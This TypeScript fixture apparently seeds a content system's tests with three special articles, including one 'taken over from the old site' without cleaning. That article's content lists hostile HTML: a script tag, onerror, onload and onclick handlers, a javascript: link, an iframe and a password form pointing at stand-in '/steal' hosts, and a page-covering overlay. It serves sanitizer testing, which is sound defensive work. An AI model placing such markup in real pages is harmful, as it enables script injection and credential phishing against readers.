import { type ArticleRecord, sameIn } from '../../../domain/cms/content.ts'
import { both } from './channels.ts'

/** Taken over from the old site as it was: everything an article must not be able to do to its reader. */
const hostile = [
  '<p>Kept from the old site.</p>',
  '<script>window.__articleRan = true</script>',
  '<img src="/media/city/yangon/1.svg" onerror="window.__articleRan = true" alt="Yangon">',
  '<img src="x:broken" onerror="window.__articleRan = true">',
  '<a href="javascript:window.__articleRan = true">Read more</a>',
  '<svg onload="window.__articleRan = true"></svg>',
  '<iframe src="https://frames.example/steal"></iframe>',
  '<form action="https://forms.example/steal"><input name="password"><button>Sign in</button></form>',
  '<p style="position:fixed;inset:0;background:#fff">Covers the page</p>',
  '<p onclick="window.__articleRan = true">Its last paragraph may stay.</p>',
].join('')

/** Articles that exist for one property each. */
export function specialArticles(start: number): ArticleRecord[] {
  const now = Math.floor(start / 1000)
  const plain: Omit<ArticleRecord, 'id' | 'title' | 'content'> = {
    channel_id: 11,
    channel_ids: [11],
    author_id: 901,
    title_style: { color: '#000000', bold: false },
    flag: [],
    images: [],
    description: both('', ''),
    seotitle: both('', ''),
    keywords: both('', ''),
    tag_ids: [],
    model_fields: {},
    template: 'default',
    url: '',
    weigh: 1,
    views: 12,
    likes: 0,
    collects: 0,
    price: 0,
    currency: 'RMB',
    visit: 'all',
    comments: 'all',
    downloads: [],
    download_after_comment: false,
    source_title: '',
    source_url: '',
    status: 'normal',
    memo: both('', ''),
    publish_time: now - 400 * 86_400,
    update_time: now - 400 * 86_400,
    create_time: now - 400 * 86_400,
  }
  return [
    {
      ...plain,
      id: '1191',
      title: both('An article from the old site', '旧站文章'),
      description: both('Taken over without any cleaning.', '未经清理直接迁移。'),
      content: sameIn(hostile),
    },
    {
      ...plain,
      id: '1192',
      title: both('The association’s calendar of trade fairs', '协会展会日历'),
      description: both('Kept on the pages of the association.', '内容见协会网站。'),
      content: both('<p>See the pages of the association.</p>', '<p>请见协会网站。</p>'),
      url: 'https://association.example/fairs',
    },
    {
      ...plain,
      id: '1193',
      title: both('A draft that was taken down', '已下线的文章'),
      content: both('<p>Nobody reads this.</p>', '<p>无人可读。</p>'),
      status: 'offline',
    },
  ]
}
